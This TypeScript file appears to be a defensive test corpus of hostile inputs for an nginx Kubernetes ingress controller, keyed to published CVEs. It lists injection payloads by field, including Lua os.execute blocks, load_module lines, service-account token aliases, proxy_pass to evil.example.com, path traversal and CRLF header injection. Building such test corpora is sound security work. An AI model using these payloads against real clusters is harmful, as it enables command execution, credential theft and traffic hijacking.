// The hostile-input corpus: values an attacker who may create Ingresses (or forge an
// AdmissionReview, CVE-2025-1098) can put in front of the controller, grouped by where they go.
// Each entry: a stable id (`<where>/<payload>`), the place, the value, and why it is there.
// check.ts turns an entry into a verdict; manifests.ts into objects.
import { ALL_PAYLOADS, PAYLOADS, SCALAR_PAYLOADS, TEXT_PAYLOADS, type PayloadSlug } from './payloads.js';
import { HELLO_CERT, HELLO_KEY } from './tls-fixture.js';
import { ANNOTATIONS, BENIGN, SNIPPETS, whereSlug, type Annotation, type Where } from './where.js';

export { manifestsFor, ingressFor, twinsFor, emptySceneFor, isIngress, isSecret, isIngressClass, NAMESPACE, BASE, type KubeObject, type Variant, type VariantLabel } from './manifests.js';
export { WHERE, ANNOTATIONS, SNIPPETS, BENIGN, type Where } from './where.js';
export { TOKEN_CLASSES } from './payloads.js';

export interface HostileEntry {
  id: string;
  where: Where;
  value: string;
  note: string;
  /** the benign value to compare with, when BENIGN[where] would take another rendering branch */
  twin?: string;
}

const SO = 'load_module /tmp/x.so;';

/** fields whose value nginx sees most directly: every payload */
const ALL_FIELDS: Where[] = ['rule.host', 'path.Prefix', 'path.ImplementationSpecific', 'metadata.uid'];

/** free-text and name fields: the structural breakouts */
const TEXT_FIELDS: Where[] = [
  'path.Exact', 'backend.service.name', 'backend.service.port.name', 'tls.secretName', 'tls.hosts', 'ingressClassName',
  ...(['rewrite-target', 'session-cookie-name', 'session-cookie-path', 'canary-by-header', 'canary-by-header-value',
    'canary-by-header-pattern', 'canary-by-cookie'] satisfies Annotation[]).map((a) => `annotation:${a}` as const),
  'metadata.namespace', 'metadata.name', 'metadata.label',
];

/** booleans, numbers, sizes, enums, CIDR lists */
const SCALAR_FIELDS: Where[] = ANNOTATIONS.map((a) => `annotation:${a}` as const).filter((w) => !TEXT_FIELDS.includes(w));

/** raw nginx text for the snippet annotations: a controller must refuse or ignore all of it */
const SNIPPET_PAYLOADS: Record<string, [string, string]> = {
  'load-module': [SO, 'loads a shared object (CVE-2021-25742)'],
  'ssl-engine': ['ssl_engine /tmp/x.so;', 'loads an OpenSSL engine'],
  'content-by-lua': ['content_by_lua_block {os.execute("id")}', 'runs a command (CVE-2023-5043)'],
  'access-by-lua': [`access_by_lua 'os.execute("id")';`, 'runs a command in the access phase'],
  'njs': ['js_import /tmp/x.js;\njs_content x.run;', 'njs code'],
  'alias-serviceaccount': ['location /sa { alias /var/run/secrets/kubernetes.io/serviceaccount/; }', 'serves the SA token'],
  'root-slash': ['root /;', 'serves the filesystem'],
  'proxy-pass-evil': ['proxy_pass http://evil.example.com;', 'sends traffic elsewhere'],
  'include-passwd': ['include /etc/passwd;', 'reads a file as configuration'],
  'close-and-reopen': ['}\nserver { listen 8081; root /; }\nserver {', 'closes the block, adds a server'],
};

/** values for particular places, beyond the generic payloads: [where, slug, value, note, twin?] */
const SPECIALS: Array<[Where, string, string, string, string?]> = [
  ['metadata.uid', 'cve-2025-1098', `InjectTest#;\n\n}\n}\n}\n${SO}`, 'the UID from the IngressNightmare write-up, made into mirror targets'],
  ['rule.host', 'server-name-regex', '~^(?<x>.+)$', 'server_name starting with ~ is a regex, quoted or not: a catch-all host'],
  ['rule.host', 'server-name-dot', '.example.com', 'server_name starting with . matches every subdomain'],
  ['rule.host', 'bare-star', '*', 'a lone * is no host'],
  ['rule.host', 'homograph', 'h\u0435llo.example.com', 'Cyrillic е: looks like hello.example.com'],
  ['rule.host', 'space-split', 'hello.example.com evil.example.com', 'a space adds a second server name'],
  ...(['Prefix', 'Exact', 'ImplementationSpecific'] as const).flatMap((t): Array<[Where, string, string, string, string?]> => [
    [`path.${t}`, 'sa-token', '/var/run/secrets/kubernetes.io/serviceaccount/token', 'the SA token path (CVE-2021-25745)'],
    [`path.${t}`, 'etc-passwd', '/etc/passwd', 'a path naming a sensitive file'],
    [`path.${t}`, 'dotdot', '/../../etc/passwd', 'traversal'],
    [`path.${t}`, 'percent-dotdot', '/%2e%2e/%2e%2e/etc/passwd', 'percent-encoded traversal'],
    [`path.${t}`, 'cve-2026-24512', '/api" { alias /var/run/secrets/kubernetes.io/serviceaccount/; } location = "/x', 'path injection into a quoted location (CVE-2026-24512)'],
    [`path.${t}`, 'modifier-exact', '=/x', 'location =/x is an exact match even as one quoted argument'],
    [`path.${t}`, 'modifier-regex', '~* .', 'a regex location matching everything'],
    [`path.${t}`, 'named-location', '@internal', 'a named location'],
    [`path.${t}`, 'space-split', '/a b', 'a space splits a bare argument'],
  ]),
  ['annotation:rewrite-target', 'space-flag', '/x permanent', 'a space adds a rewrite flag'],
  ['annotation:rewrite-target', 'regex-meta', PAYLOADS['regex-meta'].make('/'), 'regex metacharacters in a replacement'],
  ['annotation:session-cookie-name', 'cookie-attribute', 'route; Domain=evil.example.com', 'cookie attribute injection'],
  ['annotation:session-cookie-path', 'header-crlf', '/\r\nSet-Cookie: evil=1', 'response header injection'],
  ['annotation:canary-by-header', 'header-crlf', 'X-Canary\r\nX-Evil: 1', 'header name with CR LF'],
  ['annotation:canary-by-header-pattern', 'regex-redos', '(a+)+$', 'catastrophic backtracking'],
  ['annotation:canary-by-header-pattern', 'regex-meta', PAYLOADS['regex-meta'].make(''), 'regex metacharacters'],
  ['annotation:canary-by-cookie', 'cookie-attribute', 'canary; Path=/', 'cookie attribute injection'],
  ['annotation:whitelist-source-range', 'allow-all', '10.0.0.0/8;allow all;', 'ends the allow and opens everything'],
  ['annotation:whitelist-source-range', 'space-split', '10.0.0.0/8 10.1.0.0/16', 'a space instead of a comma'],
  ['annotation:whitelist-source-range', 'newline-deny', '10.0.0.0/8\ndeny 0.0.0.0/0', 'newline in a list'],
  ['annotation:backend-protocol', 'unsupported', 'FCGI', 'a protocol the controller does not support'],
  ['annotation:proxy-body-size', 'space-split', '1m 2m', 'two sizes'],
  ['annotation:proxy-read-timeout', 'variable', '$request_time', 'a variable where a number belongs'],
  ['secret:tls.crt', 'not-pem', `this is not a certificate; ${SO}`, 'tls.crt that is not PEM'],
  ['secret:tls.crt', 'pem-trailing-directives', `${HELLO_CERT}}\n${SO}\nserver {`, 'a valid PEM followed by directives'],
  ['secret:tls.crt', 'pem-trailing-lua', `${HELLO_CERT}content_by_lua_block {os.execute("id")}`, 'a valid PEM followed by a Lua block'],
  ['secret:tls.crt', 'binary', '\u0000\u0001\u00ff{};"\'\\', 'binary garbage'],
  ['secret:tls.crt', 'empty', '', 'an empty certificate'],
  ['secret:tls.crt', 'long', `-----BEGIN CERTIFICATE-----\n${'A'.repeat(20_000)}\n-----END CERTIFICATE-----\n`, 'a 20k-character non-certificate'],
  ['secret:tls.key', 'not-pem', `not a key\n${SO}`, 'tls.key that is not PEM'],
  ['secret:tls.key', 'pem-trailing-directives', `${HELLO_KEY}}\n${SO}\n`, 'a valid key followed by directives'],
  ['secret:tls.key', 'cert-as-key', HELLO_CERT, 'a certificate where the key belongs'],
];

/** the value a generic payload makes for a place: the payload on the place's benign value */
function generic(where: Where, slug: PayloadSlug): HostileEntry {
  const p = PAYLOADS[slug];
  return { id: `${whereSlug(where)}/${slug}`, where, value: p.make(BENIGN[where]), note: p.note };
}

export const HOSTILE_INPUTS: readonly HostileEntry[] = [
  ...ALL_FIELDS.flatMap((w) => ALL_PAYLOADS.map((s) => generic(w, s))),
  ...TEXT_FIELDS.flatMap((w) => TEXT_PAYLOADS.map((s) => generic(w, s))),
  ...SCALAR_FIELDS.flatMap((w) => SCALAR_PAYLOADS.map((s) => generic(w, s))),
  ...SNIPPETS.flatMap((sn) => Object.entries(SNIPPET_PAYLOADS).map(([slug, [value, note]]): HostileEntry => (
    { id: `snippet.${sn}/${slug}`, where: `snippet:${sn}`, value, note }))),
  ...SPECIALS.map(([where, slug, value, note, twin]): HostileEntry => (
    { id: `${whereSlug(where)}/${slug}`, where, value, note, ...(twin === undefined ? {} : { twin }) })),
];

export function entryById(id: string): HostileEntry {
  const e = HOSTILE_INPUTS.find((x) => x.id === id);
  if (!e) throw new Error(`no hostile input ${id}`);
  return e;
}
